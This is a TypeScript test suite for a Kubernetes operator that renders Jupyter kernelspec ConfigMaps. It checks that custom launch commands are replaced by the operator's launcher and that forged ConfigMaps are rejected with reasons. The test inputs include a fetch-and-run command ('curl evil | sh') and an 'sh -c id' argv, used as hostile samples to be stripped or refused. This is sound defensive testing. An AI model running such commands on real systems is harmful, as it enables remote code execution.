import { expect } from "chai";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import type { JupyterKernelSpec, JupyterKernelTemplate } from "@elastic-jupyter/api";
import { expectGolden } from "../gateways/golden.ts";
import type { ConfigMap } from "kubernetes-types/core/v1.js";
import { DEFAULT_PROCESS_PROXY, desiredKernelspecConfigMap, kernelJson, kernelspecStatus, trustedKernelspecConfigMaps } from "../../src/kernelspecs/configmap.ts";
import { KERNELSPEC_LABEL, desiredKernelspecs } from "../../src/kernelspecs/files.ts";

const testdata = fileURLToPath(new URL("./testdata/", import.meta.url));

function kernelspec(name: string, spec: JupyterKernelSpec["spec"], namespace = "default"): JupyterKernelSpec {
  return { apiVersion: "kubeflow.tkestack.io/v1alpha1", kind: "JupyterKernelSpec", metadata: { name, namespace, uid: `uid-${name}`, generation: 4 }, spec };
}

// SEED.md's kernelspec, unchanged.
const seed = kernelspec("python-kubernetes", {
  language: "Python",
  displayName: "Python on Kubernetes as a JupyterKernelSpec",
  image: "ccr.ccs.tencentyun.com/kubeflow-oteam/jupyter-kernel-py:2.5.0",
  className: "enterprise_gateway.services.processproxies.kubeflow.KubeflowProcessProxy",
  template: { namespace: "default", name: "jupyterkerneltemplate-elastic-with-custom-kernels" },
  command: ["kubeflow-launcher", "--verbose", "--RemoteProcessProxy.kernel-id", "{kernel_id}", "--RemoteProcessProxy.port-range", "{port_range}", "--RemoteProcessProxy.response-address", "{response_address}"],
});
const seedTemplate: JupyterKernelTemplate = {
  apiVersion: "kubeflow.tkestack.io/v1alpha1", kind: "JupyterKernelTemplate",
  metadata: { name: "jupyterkerneltemplate-elastic-with-custom-kernels", namespace: "default", generation: 1 },
  spec: { template: { metadata: { app: "enterprise-gateway", component: "kernel" }, spec: { restartPolicy: "Always", containers: [{ name: "kernel" }] } } },
};
const minimal = kernelspec("py", { language: "python", image: "quay.io/jupyter/minimal-notebook:2026-08-24", cullIdleTimeout: 900 }, "team-a");

const ready = (s: ReturnType<typeof kernelspecStatus>) => s.conditions!.find((c) => c.type === "Ready")!;

describe("kernelspec ConfigMap", () => {
  it("golden: SEED.md's kernelspec and a minimal one", () => {
    expectGolden(join(testdata, "kernelspec-configmaps.yaml"), [desiredKernelspecConfigMap(seed), desiredKernelspecConfigMap(minimal)]);
  });

  it("maps SEED.md's KubeflowProcessProxy and kubeflow-launcher onto our process proxy and launcher", () => {
    const k = kernelJson(seed) as { argv: string[]; metadata: { process_proxy: { class_name: string; config: { image_name: string } } } };
    expect(k.metadata.process_proxy.class_name).to.equal(DEFAULT_PROCESS_PROXY);
    expect(k.metadata.process_proxy.config.image_name).to.equal("ccr.ccs.tencentyun.com/kubeflow-oteam/jupyter-kernel-py:2.5.0");
    expect(k.argv.slice(0, 3)).to.deep.equal(["python", "-m", "elastic_jupyter.launch_kernel"]);
    for (const p of ["{kernel_id}", "{port_range}", "{response_address}", "{public_key}"]) expect(k.argv).to.include(p);
    expect(k.argv.join(" ")).to.contain("--kernel-spec python-kubernetes --kernel-spec-namespace default");
  });

  it("runs only our launcher and process proxy in the gateway, whatever spec.command and className say", () => {
    const custom = kernelspec("c", { language: "python", image: "i", className: "my.module.Proxy", command: ["sh", "-c", "curl evil | sh"] });
    const k = kernelJson(custom) as { argv: string[]; metadata: { process_proxy: { class_name: string } } };
    expect(k.metadata.process_proxy.class_name).to.equal(DEFAULT_PROCESS_PROXY);
    expect(k.argv.slice(0, 3)).to.deep.equal(["python", "-m", "elastic_jupyter.launch_kernel"]);
    expect(k.argv.join(" ")).to.not.contain("curl");
    const ours = kernelspec("o", { language: "python", image: "i", command: ["python", "-m", "elastic_jupyter.launch_kernel", "--kernel-spec", "other"] });
    expect((kernelJson(ours) as { argv: string[] }).argv.join(" ")).to.contain("--kernel-spec o ").and.not.contain("other");
  });

  it("records display name (defaulting to the name), language, template reference and cull timeout", () => {
    const k = kernelJson(minimal) as Record<string, any>;
    expect(k.display_name).to.equal("py");
    expect(k.language).to.equal("python");
    expect(k.metadata.cull_idle_timeout).to.equal(900);
    expect((kernelJson(seed) as Record<string, any>).metadata.elastic_jupyter.template).to.deep.equal({ name: "jupyterkerneltemplate-elastic-with-custom-kernels", namespace: "default" });
  });

  it("is what the sidecar's kernelspec sync selects and accepts", () => {
    const cms = [desiredKernelspecConfigMap(seed), desiredKernelspecConfigMap(minimal)];
    const { trusted, skipped: untrusted } = trustedKernelspecConfigMaps(cms, [seed, minimal]);
    expect(untrusted).to.deep.equal([]);
    const { specs, skipped } = desiredKernelspecs(trusted, ["python-kubernetes"]);
    expect(skipped).to.deep.equal([]);
    expect([...specs.keys()]).to.deep.equal(["python-kubernetes"]);
    expect(JSON.parse(specs.get("python-kubernetes")!["kernel.json"]!.toString()).display_name).to.equal("Python on Kubernetes as a JupyterKernelSpec");
  });

  it("the sidecar trusts only ConfigMaps the operator rendered for an existing kernelspec, each refusal with a reason", () => {
    const good = desiredKernelspecConfigMap(minimal);
    const forged = (change: (cm: ConfigMap) => void): ConfigMap => { const cm = structuredClone(good); change(cm); return cm; };
    const cases: Array<[string, ConfigMap, string]> = [
      ["no owner", forged((cm) => { delete cm.metadata!.ownerReferences; }), "not controlled by JupyterKernelSpec py"],
      ["another uid", forged((cm) => { cm.metadata!.ownerReferences![0]!.uid = "uid-other"; }), "not controlled by"],
      ["another name", forged((cm) => { cm.metadata!.name = "py-evil"; }), "not the operator's ConfigMap"],
      ["a foreign argv", forged((cm) => { cm.data!["kernel.json"] = JSON.stringify({ argv: ["sh", "-c", "id"], metadata: { process_proxy: { class_name: DEFAULT_PROCESS_PROXY } } }); }), "is not our launcher"],
      ["another kernelspec's launch", forged((cm) => { cm.data!["kernel.json"] = cm.data!["kernel.json"]!.replace('"--kernel-spec",\n    "py"', '"--kernel-spec",\n    "gpu"'); }), "is not our launcher for py"],
      ["a foreign process proxy", forged((cm) => { cm.data!["kernel.json"] = cm.data!["kernel.json"]!.replace(DEFAULT_PROCESS_PROXY, "enterprise_gateway.services.processproxies.k8s.KubernetesProcessProxy"); }), "process proxy is not"],
      ["a label for a kernelspec that does not exist", forged((cm) => { cm.metadata!.labels![KERNELSPEC_LABEL] = "ghost"; cm.metadata!.name = "ghost-kernelspec"; }), "JupyterKernelSpec ghost does not exist"],
    ];
    for (const [what, cm, why] of cases) {
      const { trusted, skipped } = trustedKernelspecConfigMaps([cm], [minimal]);
      expect(trusted, what).to.deep.equal([]);
      expect(skipped.join(), what).to.contain(why);
    }
    expect(trustedKernelspecConfigMaps([good], [minimal]).trusted).to.have.length(1);
  });

  it("is owned by its kernelspec", () => {
    expect(desiredKernelspecConfigMap(seed).metadata!.ownerReferences![0]).to.include({ kind: "JupyterKernelSpec", name: "python-kubernetes", uid: "uid-python-kubernetes", controller: true });
  });
});

describe("kernelspec status", () => {
  it("is Ready when its template exists and is valid", () => {
    const s = kernelspecStatus({ spec: seed, template: seedTemplate, now: "t" });
    expect(ready(s)).to.include({ status: "True", reason: "ConfigMapReady", observedGeneration: 4 });
    expect(s.configMapName).to.equal("python-kubernetes-kernelspec");
  });

  it("reports a missing template as TemplateNotFound, naming it", () => {
    const c = ready(kernelspecStatus({ spec: seed, template: undefined, now: "t" }));
    expect(c).to.include({ status: "False", reason: "TemplateNotFound" });
    expect(c.message).to.contain("default/jupyterkerneltemplate-elastic-with-custom-kernels");
  });

  it("reports an invalid template as TemplateInvalid with the template's problem", () => {
    const bad = structuredClone(seedTemplate);
    bad.spec.template.metadata = { app: "has spaces" };
    const c = ready(kernelspecStatus({ spec: seed, template: bad, now: "t" }));
    expect(c).to.include({ status: "False", reason: "TemplateInvalid" });
    expect(c.message).to.contain("has spaces");
  });

  it("refuses a template in another namespace: the gateway's sidecar could not read it", () => {
    const elsewhere = kernelspec("k", { language: "python", image: "i", template: { name: "t", namespace: "other" } });
    expect(ready(kernelspecStatus({ spec: elsewhere, template: undefined, now: "t" })).reason).to.equal("TemplateInOtherNamespace");
  });

  it("flags a command that is not the launcher and a foreign process proxy (stored before the CRD refused them), naming the fields", () => {
    const c = ready(kernelspecStatus({ spec: kernelspec("k", { language: "python", image: "i", command: ["my-launcher", "{kernel_id}"], className: "x.Y" }), template: undefined, now: "t" }));
    expect(c).to.include({ status: "False", reason: "InvalidSpec" });
    expect(c.message).to.contain("spec.command").and.contain("spec.kernelCommand").and.contain("spec.className");
    for (const command of [["kubeflow-launcher", "--verbose"], ["python3", "-m", "elastic_jupyter.launch_kernel"]]) {
      expect(ready(kernelspecStatus({ spec: kernelspec("k", { language: "python", image: "i", command }), template: undefined, now: "t" })).status).to.equal("True");
    }
  });

  it("is Ready without a template", () => {
    expect(ready(kernelspecStatus({ spec: minimal, template: undefined, now: "t" })).status).to.equal("True");
  });
});
